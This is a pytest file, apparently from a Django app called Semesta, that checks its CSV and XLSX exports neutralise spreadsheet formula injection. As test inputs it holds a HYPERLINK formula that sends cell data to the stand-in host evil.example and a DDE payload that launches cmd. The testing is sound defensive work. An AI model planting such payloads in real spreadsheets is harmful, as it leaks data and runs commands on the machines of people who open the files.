"""Every CSV and XLSX Semesta writes shows a would-be formula as text and never runs it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date

import pytest
from python_calamine import CalamineWorkbook

from semesta.formats import neutralise, safe_cell, safe_row
from tests.facts import fact
from tests.test_reports import quarter  # noqa: F401  (the Monev fixture)
from tests.test_sponsorship import pledge  # noqa: F401  (the sponsorship fixture)

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'


def _formulas(xlsx: bytes) -> list[str]:
    """Formula elements in any worksheet of the workbook."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        return [f for n in sheets for f in re.findall(r"<f>(.*?)</f>", book.read(n).decode())]


def _texts(xlsx: bytes) -> list[str]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(xlsx))
    return [
        cell
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for cell in row
        if isinstance(cell, str)
    ]


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_it_neutralises_each_character_that_starts_a_formula(first):
    assert neutralise(f"{first}SUM(A1)") == f"'{first}SUM(A1)"


def test_it_keeps_numbers_as_numbers_and_only_text_is_changed():
    assert safe_row([-5, 2.5, None, "-5", "Matraman", date(2025, 7, 1)]) == [
        -5,
        2.5,
        None,
        "'-5",
        "Matraman",
        "2025-07-01",
    ]
    assert safe_cell(True) is True


def test_the_monev_xlsx_writes_an_officers_text_as_text(quarter):  # noqa: F811
    from semesta.collaboration.models import Event
    from semesta.employers.models import SeResponse
    from semesta.reports.services import build

    SeResponse.objects.update(action=EVIL)
    Event.objects.update(title="@SUM(1+1)*cmd|' /C calc'!A0")
    content = build(quarter, "2025-Q4", by="uji").xlsx.read()
    assert _formulas(content) == []
    texts = _texts(content)
    assert f"'{EVIL}" in texts and "'@SUM(1+1)*cmd|' /C calc'!A0" in texts
    summary = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_name("Ringkasan")
    values = {row[0]: row[1] for row in summary.to_python()[3:]}
    assert values["Peserta aktif"] == 31_750  # numbers stay numbers


def test_the_region_children_csv_and_xlsx_neutralise_a_name(client, personas):
    from semesta.regions.models import Region

    fact("31", 2_000_000, 4_000_000, date(2025, 7, 1))
    fact("31.71", 262_993, 395_697, date(2025, 7, 1))
    Region.objects.filter(code="31.71").update(name=EVIL)
    client.force_login(personas["admin"])
    body = client.get("/wilayah/31/anak.csv?periode=2025-07").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows[1][1] == f"'{EVIL}"
    xlsx = client.get("/wilayah/31/anak.xlsx?periode=2025-07").content
    assert _formulas(xlsx) == [] and f"'{EVIL}" in _texts(xlsx)


def test_the_sponsor_statement_neutralises_the_pledge_and_sponsor_names(client, pledge, personas):  # noqa: F811
    found, _ = pledge
    found.name = "+1-1"
    found.save()
    found.sponsor.name = EVIL
    found.sponsor.save()
    client.force_login(personas["sponsor"])
    xlsx = client.get(f"/sponsor/{found.pk}/pernyataan.xlsx").content
    assert _formulas(xlsx) == []
    assert f"'{EVIL}" in _texts(xlsx) and "'+1-1" in _texts(xlsx)


def test_the_import_error_report_neutralises_cells(tmp_path):
    import pyarrow as pa

    from semesta.imports.checks import Problem
    from semesta.imports.reading import Sheet
    from semesta.imports.report import write_error_report

    table = pa.table({"c0": [EVIL], "c1": ["-1"], "_row": pa.array([2], pa.int64())})
    sheet = Sheet(format="xlsx", headers=["Nama", "Nilai"], table=table)
    problems = [Problem(row=2, column="Nama", code="required", fields={"column": "Nama"})]
    xlsx = write_error_report(sheet, problems, tmp_path / "kesalahan").read_bytes()
    assert _formulas(xlsx) == [] and f"'{EVIL}" in _texts(xlsx) and "'-1" in _texts(xlsx)


def test_the_open_data_csv_neutralises_text_and_keeps_counts(db, tmp_path):
    from semesta.opendata.export import write
    from semesta.regions.models import Region

    fact("31", 2_123_056, 4_131_200, date(2025, 7, 1), 2_707_262)
    Region.objects.filter(code="31").update(name=EVIL)
    path = next(p for p in write(date(2025, 7, 1), tmp_path) if p.suffix == ".csv")
    rows = list(csv.DictReader(path.read_text(encoding="utf-8").splitlines()))
    assert f"'{EVIL}" in rows[0].values() and rows[0]["peserta_aktif"] == "2123056"
